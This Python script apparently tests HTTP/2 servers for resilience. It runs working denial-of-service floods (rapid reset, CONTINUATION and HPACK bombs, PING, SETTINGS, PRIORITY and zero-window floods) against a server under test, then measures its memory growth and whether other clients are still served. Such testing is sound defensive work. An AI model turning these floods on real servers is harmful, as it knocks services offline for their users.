# SPDX-License-Identifier: BSL-1.0
#
# Most attacks here have brought down servers that obey RFC 9113 to the letter: the letter bounds too little.
"""Floods an HTTP/2 server, prior knowledge over plain TCP, and looks at what it costs it.

    http2_adversary.py PORT PID

For each attack a line: name, outcome, what was seen; tab between them. A server may end the connection with
GOAWAY or at once, or may bear the flood; but it must go on serving others in time, and may not grow by more
than a bound, for which /proc/PID is asked.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ResponseReceived
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from subjects import HOST, resident_bytes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACK_SECONDS = 6.0
OTHER_SECONDS_MAX = 2.0     # Until somebody else is served, meanwhile.
GROWTH_MAX = 64 << 20
HEAD = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")]


def serialized(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


class Attacker:
    """A connection that writes whatever it likes; a thread of its own reads, unless it shall not."""

    def __init__(self, port: int, reads: bool = True, settings: dict[int, int] | None = None) -> None:
        self.socket = socket.create_connection((HOST, port), 5)
        self.socket.settimeout(ATTACK_SECONDS)
        self.encoder = Encoder()
        self.end = ""      # How the server ended it.
        self._rest = b""
        self.write(PREFACE + serialized(SettingsFrame(0, settings=settings or {})))
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        with contextlib.suppress(OSError):
            while piece := self.socket.recv(1 << 16):
                self._look(piece)
        self.end = self.end or "closed"

    def _look(self, piece: bytes) -> None:
        """Finds GOAWAY among the frames."""
        self._rest += piece
        while len(self._rest) >= 9:
            frame, size = Frame.parse_frame_header(memoryview(self._rest[:9]))
            if len(self._rest) < 9 + size:
                return
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(self._rest[9:9 + size]))
                self.end = f"GOAWAY {frame.error_code}"
            self._rest = self._rest[9 + size:]

    def write(self, data: bytes) -> None:
        self.socket.sendall(data)

    def head(self, stream: int, fields: list[tuple[str, str]] | None = None, *flags: str) -> bytes:
        frame = HeadersFrame(stream, data=self.encoder.encode(fields or HEAD))
        frame.flags |= {"END_HEADERS", *flags}
        return frame.serialize()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


# ---------------------------------------------------------------------------------------------
# Attacks: each yields bytes until the server has had enough, or the time is up
# ---------------------------------------------------------------------------------------------

def rapid_reset(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2023-44487: requests that are withdrawn at once occupy no stream, but all of the work."""
    for stream in range(1, 1 << 30, 200):
        yield b"".join(attacker.head(each, None, "END_STREAM")
                       + RstStreamFrame(each, error_code=8).serialize()
                       for each in range(stream, stream + 200, 2))


def reset_by_the_server(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2025-8671: the peer makes the server reset each stream, by a window update of nothing."""
    for stream in range(1, 1 << 30, 200):
        yield b"".join(attacker.head(each, None, "END_STREAM") + update_of_nothing(each)
                       for each in range(stream, stream + 200, 2))


def update_of_nothing(stream: int) -> bytes:
    return b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + bytes(4)


def continuation_flood(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2024-27316 and its kin: a head without end."""
    yield HeadersFrame(1, data=attacker.encoder.encode(HEAD)).serialize()
    field = b"\0\x02aa\x7f\x81\x1f" + b"a" * (127 + 159)
    while True:
        yield ContinuationFrame(1, data=field * 50).serialize() * 20


def empty_continuations(attacker: Attacker) -> Iterator[bytes]:
    yield HeadersFrame(1, data=attacker.encoder.encode(HEAD)).serialize()
    while True:
        yield ContinuationFrame(1).serialize() * 5000


def indexed_bomb(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2016-6581: one byte of HPACK is 4 KiB of head."""
    big = ("a", "b" * 3800)
    yield attacker.head(1, [*HEAD, big], "END_STREAM")  # Into the table that both keep.
    for stream in range(3, 1 << 30, 2):
        yield attacker.head(stream, [*HEAD, *[big] * 12000], "END_STREAM")


def ping_flood(attacker: Attacker) -> Iterator[bytes]:
    while True:
        yield PingFrame(0, opaque_data=b"12345678").serialize() * 2000


def settings_flood(attacker: Attacker) -> Iterator[bytes]:
    while True:
        yield SettingsFrame(0, settings={3: 100, 4: 65535}).serialize() * 2000


def empty_data(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2019-9518: frames that cost no flow control."""
    yield attacker.head(1, [(":method", "POST"), *HEAD[1:]])
    while True:
        yield DataFrame(1).serialize() * 5000


def priority_flood(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2019-9513: RFC 9113 ignores priorities; ignoring is work, too."""
    for stream in range(1, 1 << 30, 4000):
        yield b"".join(PriorityFrame(each, depends_on=0, stream_weight=each & 255).serialize()
                       for each in range(stream, stream + 4000, 2))


def window_updates(attacker: Attacker) -> Iterator[bytes]:
    while True:
        yield WindowUpdateFrame(0, window_increment=1).serialize() * 2000


def streams_without_end(attacker: Attacker) -> Iterator[bytes]:
    """As many open requests as the server lets be, and beyond."""
    for stream in range(1, 1 << 30, 200):
        yield b"".join(attacker.head(each, [(":method", "POST"), *HEAD[1:]])
                       for each in range(stream, stream + 200, 2))


def zero_window(attacker: Attacker) -> Iterator[bytes]:
    """CVE-2019-9517: ask for everything, let nothing be sent."""
    for stream in range(1, 1 << 30, 200):
        yield b"".join(attacker.head(each, None, "END_STREAM") for each in range(stream, stream + 200, 2))


def unknown_frames(attacker: Attacker) -> Iterator[bytes]:
    """RFC 9113, 4.1 has them ignored, however many."""
    while True:
        yield (b"\0\x3f\xff\xfe\0" + bytes(4) + bytes(16383)) * 4


ATTACKS: tuple[tuple[str, str, Callable[[Attacker], Iterator[bytes]], dict], ...] = (
    ("rapid reset", "RFC 9113, 10.5", rapid_reset, {}),
    ("resets by the server", "RFC 9113, 10.5", reset_by_the_server, {}),
    ("CONTINUATION without end", "RFC 9113, 10.5.1", continuation_flood, {}),
    ("empty CONTINUATION", "RFC 9113, 10.5.1", empty_continuations, {}),
    ("HPACK bomb", "RFC 9113, 10.5.1", indexed_bomb, {}),
    ("PING, answers read", "RFC 9113, 10.5", ping_flood, {}),
    ("PING, answers not read", "RFC 9113, 10.5", ping_flood, {"reads": False}),
    ("SETTINGS, answers read", "RFC 9113, 10.5", settings_flood, {}),
    ("SETTINGS, answers not read", "RFC 9113, 10.5", settings_flood, {"reads": False}),
    ("empty DATA", "RFC 9113, 10.5", empty_data, {}),
    ("PRIORITY", "RFC 9113, 10.5", priority_flood, {}),
    ("WINDOW_UPDATE", "RFC 9113, 10.5", window_updates, {}),
    ("streams without end", "RFC 9113, 5.1.2", streams_without_end, {}),
    ("requests without a window", "RFC 9113, 10.5", zero_window, {"settings": {4: 0}}),
    ("requests, answers not read", "RFC 9113, 10.5", zero_window, {"reads": False}),
    ("frames of unknown types", "RFC 9113, 4.1", unknown_frames, {}),
)


# ---------------------------------------------------------------------------------------------
# What it costs the server
# ---------------------------------------------------------------------------------------------

def served(port: int) -> float:
    """Seconds until an ordinary client has its answer; raises OSError if it has none in time."""
    begun = time.monotonic()
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    connection.send_headers(1, HEAD, end_stream=True)
    with socket.create_connection((HOST, port), OTHER_SECONDS_MAX) as stream:
        stream.sendall(connection.data_to_send())
        while (left := OTHER_SECONDS_MAX - (time.monotonic() - begun)) > 0:
            stream.settimeout(left)
            piece = stream.recv(1 << 16)
            if not piece:
                raise OSError("the connection was closed")
            if any(isinstance(event, ResponseReceived) for event in connection.receive_data(piece)):
                return time.monotonic() - begun
    raise TimeoutError("no answer")


def attack(port: int, pid: int, how: Callable[[Attacker], Iterator[bytes]],
           options: dict) -> tuple[bool, str]:
    before, highest, slowest, trouble = resident_bytes(pid), 0, 0.0, ""
    attacker, sent, begun = Attacker(port, **options), 0, time.monotonic()
    asked = begun
    pieces = how(attacker)
    attacker.socket.settimeout(0.5)
    while time.monotonic() < begun + ATTACK_SECONDS and not attacker.end:
        try:
            piece = next(pieces)
            attacker.write(piece)
            sent += len(piece)
        except TimeoutError:
            break  # The server reads no more, which is a way to bear it; what it keeps is counted below.
        except OSError as error:
            attacker.end = attacker.end or f"closed: {error.strerror}"
        highest = max(highest, resident_bytes(pid) - before)
        if time.monotonic() > asked + 0.5:
            asked = time.monotonic()
            try:
                slowest = max(slowest, served(port))
            except OSError as error:
                trouble = f"meanwhile another client is not served: {error}"
                break
    time.sleep(0.5)
    highest = max(highest, resident_bytes(pid) - before)
    end = attacker.end or "not ended"
    attacker.close()
    try:
        slowest = max(slowest, served(port))
    except OSError as error:
        trouble = trouble or f"afterwards a client is not served: {error}"
    if highest > GROWTH_MAX:
        trouble = trouble or "it grew beyond the bound"
    seconds = time.monotonic() - begun
    return not trouble, (f"{trouble}{'; ' if trouble else ''}{sent >> 10} KiB in {seconds:.1f} s, "
                         f"grew by {highest >> 10} KiB, others waited {slowest * 1000:.0f} ms at most, {end}")


def main(port: int, pid: int) -> int:
    for name, clause, how, options in ATTACKS:
        try:
            right, said = attack(port, pid, how, options)
        except OSError as error:
            right, said = False, f"cannot even begin: {error}"
        print(name, clause, "passed" if right else "FAILED", said, sep="\t", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]), int(sys.argv[2])))
